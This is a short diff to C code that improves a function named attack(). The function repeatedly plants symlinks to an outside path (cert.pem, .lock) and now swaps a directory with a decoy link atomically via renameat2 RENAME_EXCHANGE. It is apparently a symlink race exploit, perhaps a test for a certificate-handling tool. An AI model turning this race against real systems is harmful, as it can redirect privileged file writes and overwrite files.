@@ -180,18 +180,18 @@ static _Noreturn void attack(const char *slot, const char *outside)
 {
 	AUTO_FREE char *live_new = xasprintf("%s/.live.new", slot);
 	AUTO_FREE char *lock = xasprintf("%s/.lock", slot);
-	AUTO_FREE char *away = xasprintf("%s.away", slot);
+	AUTO_FREE char *decoy = xasprintf("%s.decoy", slot);
 	AUTO_FREE char *name = xasprintf("%s/cert.pem", slot);
 
+	(void)!symlink(outside, decoy);
 	for (;;) {
 		(void)!symlink(outside, live_new);
 		unlink(name);
 		(void)!symlink(outside, name);
 		(void)!symlink(outside, lock);
-		(void)!rename(slot, away);
-		(void)!symlink(outside, slot);
-		unlink(slot);
-		(void)!rename(away, slot);
+		/* The directory and a link out of it change places, and back. */
+		(void)!renameat2(AT_FDCWD, slot, AT_FDCWD, decoy, RENAME_EXCHANGE);
+		(void)!renameat2(AT_FDCWD, slot, AT_FDCWD, decoy, RENAME_EXCHANGE);
 	}
 }
 
